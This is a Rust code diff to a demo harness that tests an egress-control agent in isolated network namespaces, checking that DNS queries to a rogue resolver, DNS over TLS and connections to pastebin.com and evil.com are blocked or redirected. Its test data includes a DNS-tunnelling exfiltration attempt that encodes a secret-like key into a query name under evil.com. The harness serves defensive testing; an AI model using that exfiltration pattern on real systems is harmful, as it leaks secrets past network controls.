@@ -2,14 +2,20 @@
 //!
 //! It builds a small world in network namespaces (the workload's namespace and a "remote"
 //! one holding stand-ins for api.company.com, evil.com, pastebin.com, database.internal and
-//! a rogue DNS resolver, plus a DNS server, dnsmasq, that answers those names), runs the
-//! `egress-probe` workload as uid nobody under `egress-agent exec --policy policies/demo.yaml`
-//! (the agent resolves the policy's host names through the demo's DNS server, never through
-//! the machine's), and reports for each case what the workload's syscalls returned, what
-//! reached the listeners and what the agent logged. A control run of the same
-//! attempts without the agent first shows that every destination is reachable, so a block
-//! is the agent's doing and not a broken network. Case 4 (rate limits) runs only when the
-//! agent accepts a policy with `rate_limits`; otherwise it is reported as NOT YET ENFORCED.
+//! a rogue DNS resolver, plus a DNS server, dnsmasq, that answers those names), and runs two
+//! workloads as uid nobody under `egress-agent exec` with policies/demo.yaml (plus a
+//! `dns_policy` section naming the demo's DNS server as the only resolver, when the file has
+//! none): `egress-probe`, which connects and sends by address, and `egress-dns-client`, which
+//! sends DNS queries the way a resolver library does. With `dns_policy` the kernel hands every
+//! DNS query of the workload (UDP and TCP port 53, any address) to the agent's DNS proxy: the
+//! proxy resolves only names the policy allows, only through the allowed resolver, and
+//! answers NXDOMAIN for the rest without asking anyone. For each case the demo reports what
+//! the workload's syscalls and queries returned, what reached the listeners and the DNS
+//! server, and what the agent logged. A control run of the same attempts without the agent
+//! first shows that every destination and resolver is reachable and every name resolves, so
+//! a block is the agent's doing and not a broken network. Case 4 (rate limits) runs only
+//! when the agent accepts a policy with `rate_limits`; otherwise it is reported as NOT YET
+//! ENFORCED.
 //!
 //! Run it with `cargo xtask demo` (root). Exit status: 0 when every enforced case passes,
 //! 1 when one fails or the world cannot be built, 130 when interrupted (after clean-up).
@@ -36,10 +42,19 @@ use egress_tests::dnsmasq::Dnsmasq;
 use egress_tests::probe::{ProbeResult, errno_name};
 use egress_tests::process::RunOutput;
 use egress_tests::server::{Listener, contains};
-use egress_tests::testbed::Testbed;
+use egress_tests::testbed::{Testbed, run_probe_as_nobody};
+use serde_json::Value;
 
 /// The policy the demo enforces, relative to the workspace root.
 const POLICY: &str = "policies/demo.yaml";
+/// The DNS workload, built next to the demo.
+const DNS_CLIENT: &str = "egress-dns-client";
+/// How long the DNS client waits for an answer under the agent (the proxy answers at once).
+const DNS_TIMEOUT_MS: u64 = 2000;
+/// ... and in the control run, where the rogue resolver (a bare listener) never answers.
+const CONTROL_DNS_TIMEOUT_MS: u64 = 300;
+/// A query that carries a secret out in its name, to a resolver the workload chose.
+const EXFIL_NAME: &str = "akiaiosfodnn7example.secret.evil.com";
 /// How long an allowed attempt's bytes may take to reach the listener.
 const ARRIVAL_WAIT: Duration = Duration::from_secs(3);
 /// Deadline for the agent run (start-up, the attempts, shut-down).
@@ -117,7 +132,7 @@ impl Service {
     }
 }
 
-const SERVICES: [Service; 10] = [
+const SERVICES: [Service; 12] = [
     service("api.company.com", IpAddr::V4(API_V4), 443, Proto::Tcp),
     service("api.company.com", IpAddr::V6(API_V6), 443, Proto::Tcp),
     service("api.company.com", IpAddr::V4(API_V4), 80, Proto::Tcp),
@@ -133,12 +148,25 @@ const SERVICES: [Service; 10] = [
     service("rogue resolver", IpAddr::V4(ROGUE_RESOLVER), 53, Proto::Udp),
     service("pastebin.com", IpAddr::V4(PASTEBIN), 443, Proto::Tcp),
     service("pastebin.com", IpAddr::V4(PASTEBIN), 80, Proto::Tcp),
+    service("rogue resolver", IpAddr::V4(ROGUE_RESOLVER), 53, Proto::Tcp),
+    service(
+        "rogue resolver (DNS over TLS)",
+        IpAddr::V4(ROGUE_RESOLVER),
+        853,
+        Proto::Tcp,
+    ),
 ];
+/// Indices into [`SERVICES`] of the rogue resolver's port-53 listeners.
+const ROGUE_UDP: usize = 7;
+const ROGUE_TCP: usize = 10;
 
 #[derive(Clone, Copy, PartialEq, Eq)]
 enum Expect {
     Allowed,
     Blocked,
+    /// Port 53: the send succeeds, but the kernel hands the datagram to the agent's DNS
+    /// proxy, so nothing reaches the destination.
+    Redirected,
 }
 
 /// One thing the workload tries: a probe op against one service.
@@ -153,7 +181,7 @@ struct Attempt {
     expect: Expect,
 }
 
-const ATTEMPTS: [Attempt; 12] = [
+const ATTEMPTS: [Attempt; 13] = [
     Attempt {
         case: 1,
         service: 0,
@@ -201,14 +229,21 @@ const ATTEMPTS: [Attempt; 12] = [
         case: 3,
         service: 7,
         how: "sendto udp4",
-        body: "DNS query A? api.company.com",
-        expect: Expect::Blocked,
+        body: "not a DNS message, to UDP port 53",
+        expect: Expect::Redirected,
     },
     Attempt {
         case: 3,
         service: 7,
         how: "udpconnect-send udp4",
-        body: "DNS query A? api.company.com (connected socket)",
+        body: "not a DNS message, to UDP port 53 (connected socket)",
+        expect: Expect::Redirected,
+    },
+    Attempt {
+        case: 3,
+        service: 11,
+        how: "send tcp4",
+        body: "DNS over TLS ClientHello",
         expect: Expect::Blocked,
     },
     Attempt {
@@ -266,6 +301,113 @@ const CASES: [(u8, &str); 6] = [
     ),
 ];
 
+/// What a DNS query of the workload should get.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum DnsExpect {
+    /// NOERROR with this address among the answers, appearing to come from the server asked.
+    Resolves(IpAddr),
+    /// NXDOMAIN, and the demo's DNS server never sees the name.
+    NxDomain,
+}
+
+/// One DNS query of the `egress-dns-client` workload.
+struct DnsAttempt {
+    case: u8,
+    /// `udp` (connected socket), `udp-sendto` or `tcp`.
+    transport: &'static str,
+    server: Ipv4Addr,
+    name: &'static str,
+    expect: DnsExpect,
+}
+
+const fn dns_attempt(
+    case: u8,
+    transport: &'static str,
+    server: Ipv4Addr,
+    name: &'static str,
+    expect: DnsExpect,
+) -> DnsAttempt {
+    DnsAttempt {
+        case,
+        transport,
+        server,
+        name,
+        expect,
+    }
+}
+
+const DNS_ATTEMPTS: [DnsAttempt; 7] = [
+    dns_attempt(
+        1,
+        "udp",
+        DNS_SERVER,
+        "api.company.com",
+        DnsExpect::Resolves(IpAddr::V4(API_V4)),
+    ),
+    dns_attempt(2, "udp", DNS_SERVER, "evil.com", DnsExpect::NxDomain),
+    dns_attempt(
+        3,
+        "udp",
+        ROGUE_RESOLVER,
+        "api.company.com",
+        DnsExpect::Resolves(IpAddr::V4(API_V4)),
+    ),
+    dns_attempt(
+        3,
+        "udp-sendto",
+        ROGUE_RESOLVER,
+        "api.company.com",
+        DnsExpect::Resolves(IpAddr::V4(API_V4)),
+    ),
+    dns_attempt(
+        3,
+        "tcp",
+        ROGUE_RESOLVER,
+        "api.company.com",
+        DnsExpect::Resolves(IpAddr::V4(API_V4)),
+    ),
+    dns_attempt(3, "udp", ROGUE_RESOLVER, EXFIL_NAME, DnsExpect::NxDomain),
+    dns_attempt(5, "udp", DNS_SERVER, "pastebin.com", DnsExpect::NxDomain),
+];
+
+impl DnsAttempt {
+    /// The client's step.
+    fn step(&self) -> String {
+        format!("query {} {} {} A", self.transport, self.server, self.name)
+    }
+
+    fn rogue(&self) -> bool {
+        self.server == ROGUE_RESOLVER
+    }
+
+    /// `A? pastebin.com -> allowed resolver 198.18.0.53:53`, for messages.
+    fn describe(&self) -> String {
+        format!("A? {} -> {} {}:53", self.name, self.role(), self.server)
+    }
+
+    fn role(&self) -> &'static str {
+        if self.rogue() {
+            "rogue resolver"
+        } else {
+            "allowed resolver"
+        }
+    }
+
+    /// `udp-sendto to 198.18.0.99:53`
+    fn how(&self) -> String {
+        format!("{} to {}:53", self.transport, self.server)
+    }
+
+    /// The rogue resolver's listener this query would reach.
+    fn rogue_listener(&self) -> usize {
+        if self.transport == "tcp" {
+            ROGUE_TCP
+        } else {
+            ROGUE_UDP
+        }
+    }
+}
+
 static INTERRUPTED: AtomicBool = AtomicBool::new(false);
 
 extern "C" fn on_interrupt(_signal: libc::c_int) {
@@ -319,49 +461,44 @@ fn demo() -> Result<bool> {
         );
     }
     let root = workspace_root();
-    let policy = root.join(POLICY);
-    let policy_text = std::fs::read_to_string(&policy)
-        .with_context(|| format!("reading {}", policy.display()))?;
+    let policy_file = root.join(POLICY);
+    let file_text = std::fs::read_to_string(&policy_file)
+        .with_context(|| format!("reading {}", policy_file.display()))?;
     let agent = agent_bin()?;
     let probe = probe_bin()?;
+    let dns_client_bin = sibling_bin(DNS_CLIENT, "EGRESS_DNS_CLIENT_BIN")?;
 
     println!("egress demo: MCP-NET-02 dynamic test cases, offline, against the real agent");
     println!("{}", "=".repeat(78));
     let tb = Testbed::new(&probe).context("building the demo world")?;
+    let dns_client = StagedBinary::new(&dns_client_bin)?;
     let listeners = build_world(&tb)?;
     // Declared after `tb`, so dropped before the namespace it runs in is deleted.
     let dns = start_dns(&tb)?;
     let resolv_conf = write_resolv_conf()?;
+    let policy = policy_file.clone();
     print_world(&tb);
-    println!("\nPolicy {POLICY} (comments left out):");
-    for line in policy_text
-        .lines()
-        .filter(|l| !l.trim_start().starts_with('#') && !l.trim().is_empty())
-    {
-        println!("  | {line}");
-    }
+    print_policy(&file_text);
 
     control_run(&tb, &listeners)?;
+    dns_control_run(&tb, dns_client.path(), &listeners)?;
     if INTERRUPTED.load(Ordering::SeqCst) {
         return Ok(false);
     }
 
-    // Bytes from here on belong to the agent run.
+    // Bytes and DNS queries from here on belong to the agent runs.
     let before: Vec<usize> = listeners.iter().map(|l| l.received().len()).collect();
+    let dns_before = dns.queries().len();
     println!(
-        "\nThe same attempts under the agent:\n  {} exec --policy {POLICY} --user nobody \
-         --resolv-conf FILE -- egress-probe OPS...\n  (FILE: `nameserver {DNS_SERVER}`, the demo's \
-         DNS server)",
-        agent.display()
+        "\nThe same attempts under the agent, in two runs (connections, then DNS queries):\n  {} \
+         exec --policy {POLICY} --user nobody --resolv-conf FILE -- egress-probe OPS...\n  {} \
+         exec --policy {POLICY} --user nobody --resolv-conf FILE -- egress-dns-client QUERIES...\n  \
+         (FILE: `nameserver {DNS_SERVER}`, the demo's DNS server)",
+        agent.display(),
+        agent.display(),
     );
     let ops: Vec<String> = ATTEMPTS.iter().map(|a| op(a, "demo")).collect();
-    let agent_run = AgentRun::new(&policy, &tb.cgroups, tb.probe.path())?
-        .agent_arg("--resolv-conf")
-        .agent_arg(resolv_conf.path())
-        .agent_arg("--log-format")
-        .agent_arg("json")
-        .agent_arg("--metrics-addr")
-        .agent_arg(METRICS_ADDR.to_string())
+    let agent_run = scraped_agent_run(&policy, &tb, tb.probe.path(), resolv_conf.path())?
         .args(&ops)
         // Keeps the agent (and its metrics endpoint) up for a last scrape after the attempts.
         .arg(format!("sleep {}", LINGER.as_millis()))
@@ -369,13 +506,44 @@ fn demo() -> Result<bool> {
     let (run, metrics) = run_scraping_metrics(&agent_run, &tb)?;
     std::thread::sleep(egress_tests::server::SETTLE);
 
+    // The DNS run: the rogue resolver's listeners and the DNS server's log are read against
+    // what they had before it.
+    let rogue_before = [ROGUE_UDP, ROGUE_TCP].map(|i| listeners[i].connections());
+    let dns_run_before = dns.queries().len();
+    let steps: Vec<String> = DNS_ATTEMPTS.iter().map(DnsAttempt::step).collect();
+    let dns_agent_run = scraped_agent_run(&policy, &tb, dns_client.path(), resolv_conf.path())?
+        .arg("--timeout-ms")
+        .arg(DNS_TIMEOUT_MS.to_string())
+        .args(&steps)
+        .arg(format!("sleep {}", LINGER.as_millis()))
+        .timeout(AGENT_TIMEOUT);
+    let (dns_run, dns_metrics) = run_scraping_metrics(&dns_agent_run, &tb)?;
+    std::thread::sleep(egress_tests::server::SETTLE);
+    let rogue_new: usize = [ROGUE_UDP, ROGUE_TCP]
+        .iter()
+        .zip(rogue_before)
+        .map(|(&i, n)| listeners[i].connections() - n)
+        .sum();
+    let mut upstream = dns.queries();
+    let upstream = upstream.split_off(dns_run_before.min(upstream.len()));
+    let dns_results = client_results(&dns_run);
+    let dns_seen = DnsSeen {
+        run: &dns_run,
+        results: &dns_results,
+        rogue_new,
+        upstream: &upstream,
+    };
+
     let mut all_passed = true;
     let mut rate_limits_enforced = None;
     for &(case, title) in &CASES {
         println!("\nCase {case}. {title}");
+        if case == 3 {
+            print_case3_explanation();
+        }
         if case == 4 {
             rate_limits_enforced =
-                rate_limit_case(&agent, &tb, &policy_text, resolv_conf.path(), &listeners[0])?;
+                rate_limit_case(&agent, &tb, &file_text, resolv_conf.path(), &listeners[0])?;
             all_passed &= rate_limits_enforced.unwrap_or(true);
             continue;
         }
@@ -397,14 +565,20 @@ fn demo() -> Result<bool> {
             }
             all_passed &= passed;
         }
+        for attempt in DNS_ATTEMPTS.iter().filter(|a| a.case == case) {
+            all_passed &= report_dns_attempt(attempt, &dns_seen);
+        }
     }
 
-    print_agent_output(&run);
-    print_dns_queries(&dns);
+    print_agent_output("connections", &run);
+    print_agent_output("DNS queries", &dns_run);
+    print_dns_queries(&dns, dns_before);
     print_counters(&run);
-    print_metrics(metrics.as_deref());
+    print_metrics("connections", metrics.as_deref(), "egress_");
+    print_metrics("DNS queries", dns_metrics.as_deref(), "egress_dns");
     print_blocked_in_log(&run);
     all_passed &= agent_exit_ok(&run);
+    all_passed &= agent_exit_ok(&dns_run);
 
     println!("\n{}", "=".repeat(78));
     if all_passed && rate_limits_enforced.is_some() {
@@ -422,19 +596,336 @@ fn demo() -> Result<bool> {
     Ok(all_passed)
 }
 
+/// `egress-agent exec` of `program` under `policy`, resolving through the demo's DNS server,
+/// logging JSON and serving metrics for [`run_scraping_metrics`].
+fn scraped_agent_run(
+    policy: &Path,
+    tb: &Testbed,
+    program: &Path,
+    resolv_conf: &Path,
+) -> Result<AgentRun> {
+    Ok(AgentRun::new(policy, &tb.cgroups, program)?
+        .agent_arg("--resolv-conf")
+        .agent_arg(resolv_conf)
+        .agent_arg("--log-format")
+        .agent_arg("json")
+        .agent_arg("--metrics-addr")
+        .agent_arg(METRICS_ADDR.to_string()))
+}
+
+fn print_policy(policy_text: &str) {
+    println!("\nPolicy {POLICY} (comments left out):");
+    for line in policy_text
+        .lines()
+        .filter(|l| !l.trim_start().starts_with('#') && !l.trim().is_empty())
+    {
+        println!("  | {line}");
+    }
+}
+
+fn print_case3_explanation() {
+    println!(
+        "  With dns_policy, the kernel hands every DNS query of the workload (UDP and TCP port 53, \
+         to any\n  address) to the agent's DNS proxy. The proxy resolves only names the policy \
+         allows, and only\n  through dns_policy.allowed_resolvers ({DNS_SERVER}); any other name \
+         gets NXDOMAIN without a query\n  leaving the machine. So a resolver the workload picks \
+         itself receives nothing, the workload\n  gets the proxy's answer (which appears to come \
+         from the address it asked), a secret encoded in\n  a query name goes nowhere, and DNS \
+         over TLS (port 853) is refused (block_dot)."
+    );
+}
+
+/// What the DNS run produced, for the per-attempt reports.
+struct DnsSeen<'a> {
+    run: &'a RunOutput,
+    /// The client's JSON lines.
+    results: &'a [Value],
+    /// Datagrams and connections that reached the rogue resolver's port-53 listeners during
+    /// the run.
+    rogue_new: usize,
+    /// The demo DNS server's query log lines written during the run.
+    upstream: &'a [String],
+}
+
+/// The DNS client's JSON lines from a run's stdout.
+fn client_results(run: &RunOutput) -> Vec<Value> {
+    run.stdout
+        .lines()
+        .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+        .filter(|v| v.get("step").is_some())
+        .collect()
+}
+
+fn client_result<'a>(results: &'a [Value], step: &str) -> Option<&'a Value> {
+    results.iter().find(|v| v["step"].as_str() == Some(step))
+}
+
+/// True when one of the DNS server's query log lines asks for `name`.
+fn upstream_asked(upstream: &[String], name: &str) -> bool {
+    let needle = format!("] {} ", name.to_ascii_lowercase());
+    upstream
+        .iter()
+        .any(|l| l.to_ascii_lowercase().contains(&needle))
+}
+
+/// `NOERROR 198.18.0.10` / `NXDOMAIN (EDE 15 Blocked)` / `timeout`.
+fn describe_answer(v: Option<&Value>) -> String {
+    let Some(v) = v else {
+        return "did not run".to_owned();
+    };
+    if v["ok"] != Value::Bool(true) {
+        return v["error"].as_str().unwrap_or("failed").to_owned();
+    }
+    let mut out = v["rcode"].as_str().unwrap_or("?").to_owned();
+    if let Some(addrs) = v["addresses"].as_array().filter(|a| !a.is_empty()) {
+        let list: Vec<&str> = addrs.iter().filter_map(Value::as_str).collect();
+        let _ = write!(out, " {}", list.join(","));
+    }
+    if let Some(code) = v["ede"]["code"].as_u64() {
+        let _ = write!(
+            out,
+            " (EDE {code}{}{})",
+            if v["ede"]["text"].as_str().is_some_and(|t| !t.is_empty()) {
+                " "
+            } else {
+                ""
+            },
+            v["ede"]["text"].as_str().unwrap_or_default()
+        );
+    }
+    out
+}
+
+/// Prints one DNS attempt under the agent and returns whether it behaved as expected. Every
+/// verdict comes from what was observed: the client's answer, the rogue resolver's listeners
+/// and the DNS server's log.
+fn report_dns_attempt(attempt: &DnsAttempt, seen: &DnsSeen<'_>) -> bool {
+    let result = client_result(seen.results, &attempt.step());
+    let answered = result.is_some_and(|v| v["ok"] == Value::Bool(true));
+    let rcode = result.and_then(|v| v["rcode"].as_str()).unwrap_or_default();
+    let from = result.and_then(|v| v["from"].as_str()).unwrap_or_default();
+    let asked = format!("{}:53", attempt.server);
+    let rogue_quiet = !attempt.rogue() || seen.rogue_new == 0;
+    let upstream_saw = upstream_asked(seen.upstream, attempt.name);
+    let (passed, expected) = match attempt.expect {
+        DnsExpect::Resolves(ip) => {
+            let has_ip = result
+                .and_then(|v| v["addresses"].as_array())
+                .is_some_and(|a| a.iter().any(|x| x.as_str() == Some(&ip.to_string())));
+            (
+                answered && rcode == "NOERROR" && has_ip && from == asked && rogue_quiet,
+                format!("answer {ip}"),
+            )
+        }
+        DnsExpect::NxDomain => (
+            answered && rcode == "NXDOMAIN" && !upstream_saw && rogue_quiet,
+            "NXDOMAIN".to_owned(),
+        ),
+    };
+    println!(
+        "  {}  {:<38} {:<26} expect {expected:<19} got: {}{}",
+        if passed { "PASS" } else { "FAIL" },
+        format!("A? {}", attempt.name),
+        attempt.how(),
+        describe_answer(result),
+        if answered && !from.is_empty() {
+            format!(", from {from}")
+        } else {
+            String::new()
+        }
+    );
+    if attempt.rogue() {
+        println!(
+            "        {} is a rogue resolver: {} during the DNS run",
+            attempt.server,
+            if seen.rogue_new == 0 {
+                "nothing arrived there (0 datagrams, 0 connections)".to_owned()
+            } else {
+                format!("{} datagrams/connections arrived there", seen.rogue_new)
+            }
+        );
+    }
+    match attempt.expect {
+        DnsExpect::Resolves(_) if !attempt.rogue() => {
+            let needle = format!("] {} ", attempt.name);
+            let n = seen.upstream.iter().filter(|l| l.contains(&needle)).count();
+            println!(
+                "        {} is the allowed resolver: asked for {} {n} times during the DNS run \
+                 (the agent's own lookups and its proxy's forwards)",
+                attempt.server, attempt.name
+            );
+        }
+        DnsExpect::Resolves(_) => {}
+        DnsExpect::NxDomain => {
+            println!(
+                "        demo DNS server: {}",
+                if upstream_saw {
+                    format!("ASKED for {} (the name left the machine)", attempt.name)
+                } else {
+                    format!("no query for {} (never forwarded)", attempt.name)
+                }
+            );
+            print_refusal(seen.run, attempt.name);
+        }
+    }
+    if !passed && let Some(v) = result {
+        println!("        client: {v}");
+    }
+    passed
+}
+
+/// Under a refused query: the agent's `dns_refused` line for its name. Informational.
+fn print_refusal(run: &RunOutput, name: &str) {
+    let field = |f: &LogObject, key: &str| f.get(key).map(json_text);
+    let line = log_objects(run).find(|f| {
+        field(f, "event").as_deref() == Some("dns_refused")
+            && field(f, "name").is_some_and(|n| n.trim_end_matches('.').eq_ignore_ascii_case(name))
+    });
+    let Some(line) = line else {
+        println!("        logged: no dns_refused line for {name}");
+        return;
+    };
+    let mut out = String::from("        logged:");
+    for key in ["event", "result", "qtype", "policy"] {
+        if let Some(v) = field(&line, key) {
+            let _ = write!(out, " {key}={v}");
+        }
+    }
+    println!("{out}");
+}
+
+/// Every DNS attempt without the agent: the rogue resolver receives each query sent to it,
+/// and the demo's DNS server answers every name, the refused ones included. Otherwise a
+/// block under the agent would prove nothing.
+fn dns_control_run(tb: &Testbed, client: &Path, listeners: &[Listener]) -> Result<()> {
+    let mut args = vec![
+        "--timeout-ms".to_owned(),
+        CONTROL_DNS_TIMEOUT_MS.to_string(),
+    ];
+    args.extend(DNS_ATTEMPTS.iter().map(DnsAttempt::step));
+    let refs: Vec<&str> = args.iter().map(String::as_str).collect();
+    let before: Vec<usize> = listeners.iter().map(|l| l.received().len()).collect();
+    let out =
+        run_probe_as_nobody(tb.client(), client, &refs).context("control run of the DNS client")?;
+    let results = client_results(&out);
+    let mut problems = Vec::new();
+    let mut resolved = Vec::new();
+    for attempt in &DNS_ATTEMPTS {
+        if attempt.rogue() {
+            let l = attempt.rogue_listener();
+            let got = listeners[l].wait_for(&wire_name(attempt.name), ARRIVAL_WAIT);
+            if !contains(&got[before[l].min(got.len())..], &wire_name(attempt.name)) {
+                problems.push(format!(
+                    "{} ({}): the rogue resolver did not receive it",
+                    attempt.describe(),
+                    attempt.transport
+                ));
+            }
+        } else {
+            let v = client_result(&results, &attempt.step());
+            match v {
+                Some(v)
+                    if v["rcode"] == "NOERROR"
+                        && v["addresses"].as_array().is_some_and(|a| !a.is_empty()) =>
+                {
+                    resolved.push(format!("{} -> {}", attempt.name, describe_answer(Some(v))));
+                }
+                _ => problems.push(format!(
+                    "{}: not answered ({})",
+                    attempt.describe(),
+                    describe_answer(v)
+                )),
+            }
+        }
+    }
+    if !problems.is_empty() {
+        bail!(
+            "control run of the DNS client without the agent failed, so the demo world is broken: \
+             {}\n{}",
+            problems.join("; "),
+            out.describe()
+        );
+    }
+    println!(
+        "Control run WITHOUT the agent, DNS: the rogue resolver received all {} queries sent to \
+         it, and the demo's DNS server answered {}.",
+        DNS_ATTEMPTS.iter().filter(|a| a.rogue()).count(),
+        resolved.join(", ")
+    );
+    Ok(())
+}
+
+/// `name` in DNS wire format (length-prefixed labels), as it appears inside a query.
+fn wire_name(name: &str) -> Vec<u8> {
+    let mut out = Vec::with_capacity(name.len() + 2);
+    for label in name.split('.') {
+        out.push(u8::try_from(label.len()).unwrap_or(u8::MAX));
+        out.extend_from_slice(label.as_bytes());
+    }
+    out.push(0);
+    out
+}
+
+/// A copy of a binary in a fresh 0755 directory, so that uid nobody can run it wherever the
+/// checkout lives. Removed on drop.
+struct StagedBinary {
+    path: PathBuf,
+    _dir: tempfile::TempDir,
+}
+
+impl StagedBinary {
+    fn new(binary: &Path) -> Result<Self> {
+        use std::os::unix::fs::PermissionsExt as _;
+        let dir = tempfile::Builder::new()
+            .prefix("egress-demo-")
+            .tempdir()
+            .context("creating a temp dir for the DNS client")?;
+        std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755))?;
+        let path = dir.path().join(DNS_CLIENT);
+        // Copied by a child process: a writable descriptor in this threaded process could
+        // leak into a concurrently forked child and make exec fail with ETXTBSY.
+        let cp = egress_tests::find_tool("cp").context("`cp` is not installed")?;
+        let out = Command::new(cp)
+            .arg("--")
+            .arg(binary)
+            .arg(&path)
+            .output()
+            .context("running cp")?;
+        if !out.status.success() {
+            bail!(
+                "copying {}: {}",
+                binary.display(),
+                String::from_utf8_lossy(&out.stderr).trim()
+            );
+        }
+        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755))?;
+        Ok(StagedBinary { path, _dir: dir })
+    }
+
+    fn path(&self) -> &Path {
+        &self.path
+    }
+}
+
 /// The probe next to this binary (cargo builds both into the same directory), or
 /// `$EGRESS_PROBE_BIN`.
 fn probe_bin() -> Result<PathBuf> {
-    let path = match std::env::var_os("EGRESS_PROBE_BIN") {
+    sibling_bin("egress-probe", "EGRESS_PROBE_BIN")
+}
+
+/// The binary `name` next to this one (cargo builds them into the same directory), or the
+/// path in the environment variable `var`.
+fn sibling_bin(name: &str, var: &str) -> Result<PathBuf> {
+    let path = match std::env::var_os(var) {
         Some(p) => PathBuf::from(p),
         None => std::env::current_exe()
             .context("locating the demo binary")?
-            .with_file_name("egress-probe"),
+            .with_file_name(name),
     };
     if !path.is_file() {
         bail!(
             "the workload binary {} does not exist: build it with `cargo build --release -p \
-             egress-tests --bins` (`cargo xtask demo` does), or set EGRESS_PROBE_BIN",
+             egress-tests --bins` (`cargo xtask demo` does), or set {var}",
             path.display()
         );
     }
@@ -500,8 +991,9 @@ fn print_world(tb: &Testbed) {
         println!("  {name:<18} {kind:<4} {ip}");
     }
     println!(
-        "The agent resolves the policy's host names through it (--resolv-conf); the workload \
-         connects by address."
+        "The agent resolves the policy's host names through it (dns_policy.allowed_resolvers), \
+         and its DNS\nproxy answers the workload's own queries, forwarding allowed names to it \
+         and no other server."
     );
     println!("Services (listeners in the remote namespace):");
     for s in &SERVICES {
@@ -511,7 +1003,11 @@ fn print_world(tb: &Testbed) {
         };
         println!("  {proto} {}", s.dest());
     }
-    println!("Workload: egress-probe as uid nobody (65534), standing in for an MCP server");
+    println!(
+        "Workloads, as uid nobody (65534), standing in for an MCP server: egress-probe (connects \
+         and sends\nby address) and egress-dns-client (DNS queries over UDP and TCP, as a stub \
+         resolver sends them)"
+    );
 }
 
 /// Runs every attempt without the agent: all must connect and deliver, or the demo world is
@@ -591,6 +1087,10 @@ fn report_attempt(
             result.is_some_and(|r| r.failed_with(libc::EPERM)) && new_bytes.is_empty(),
             "blocked (EPERM)",
         ),
+        Expect::Redirected => (
+            result.is_some_and(|r| r.ok) && new_bytes.is_empty(),
+            "sent, never arrives",
+        ),
     };
     let bytes = if new_bytes.is_empty() {
         "nothing arrived".to_owned()
@@ -600,7 +1100,7 @@ fn report_attempt(
         format!("{} unexpected bytes arrived", new_bytes.len())
     };
     println!(
-        "  {}  {:<38} {:<22} expect {expected:<15} syscall: {syscall:<7} listener: {bytes}",
+        "  {}  {:<38} {:<22} expect {expected:<19} syscall: {syscall:<7} listener: {bytes}",
         if passed { "PASS" } else { "FAIL" },
         s.dest(),
         attempt.how,
@@ -753,9 +1253,9 @@ fn rate_limit_case(
 }
 
 /// The agent's exit status (the workload's own when all went well) and its log lines.
-fn print_agent_output(run: &RunOutput) {
+fn print_agent_output(label: &str, run: &RunOutput) {
     println!(
-        "\nAgent: {}{} after {:.1?}",
+        "\nAgent run ({label}): {}{} after {:.1?}",
         run.status,
         if run.timed_out {
             " (TIMED OUT, killed)"
@@ -773,10 +1273,12 @@ fn print_agent_output(run: &RunOutput) {
     }
 }
 
-/// What the demo's DNS server was asked, in both agent runs: the agent's lookups (the
-/// workload is allowed no DNS), each distinct query once with its count.
-fn print_dns_queries(dns: &Dnsmasq) {
-    let queries = dns.queries();
+/// What the demo's DNS server was asked during the agent runs (from `since` on in its log):
+/// the agent's own lookups of the policy's names and what its proxy forwarded, each distinct
+/// query once with its count. The workload never reaches it directly.
+fn print_dns_queries(dns: &Dnsmasq, since: usize) {
+    let mut queries = dns.queries();
+    let queries = queries.split_off(since.min(queries.len()));
     let mut distinct: Vec<(&str, usize)> = Vec::new();
     for q in &queries {
         // Without dnsmasq's `Mon dd hh:mm:ss dnsmasq[pid]: ` prefix.
@@ -787,7 +1289,8 @@ fn print_dns_queries(dns: &Dnsmasq) {
         }
     }
     println!(
-        "DNS queries the demo's DNS server received during the agent runs ({} in dnsmasq's log):",
+        "\nDNS queries the demo's DNS server received during the agent runs ({} in dnsmasq's log: \
+         the agent's lookups of the policy's names and the allowed queries its proxy forwarded):",
         queries.len()
     );
     for (text, n) in distinct {
@@ -841,14 +1344,20 @@ fn scrape_metrics() -> std::io::Result<String> {
     }
 }
 
-/// The agent's Prometheus samples (the `egress_*` lines, without HELP/TYPE comments).
-fn print_metrics(exposition: Option<&str>) {
+/// The agent's Prometheus samples whose names start with `prefix` (without HELP/TYPE
+/// comments).
+fn print_metrics(label: &str, exposition: Option<&str>, prefix: &str) {
     let Some(text) = exposition else {
-        println!("\nMetrics: no answer from http://{METRICS_ADDR}/metrics while the agent ran");
+        println!(
+            "\nMetrics ({label}): no answer from http://{METRICS_ADDR}/metrics while the agent ran"
+        );
         return;
     };
-    println!("\nMetrics scraped from http://{METRICS_ADDR}/metrics after the attempts:");
-    for line in text.lines().filter(|l| l.starts_with("egress_")) {
+    println!(
+        "\nMetrics ({label}) scraped from http://{METRICS_ADDR}/metrics after the attempts, \
+         {prefix}*:"
+    );
+    for line in text.lines().filter(|l| l.starts_with(prefix)) {
         println!("  {line}");
     }
 }
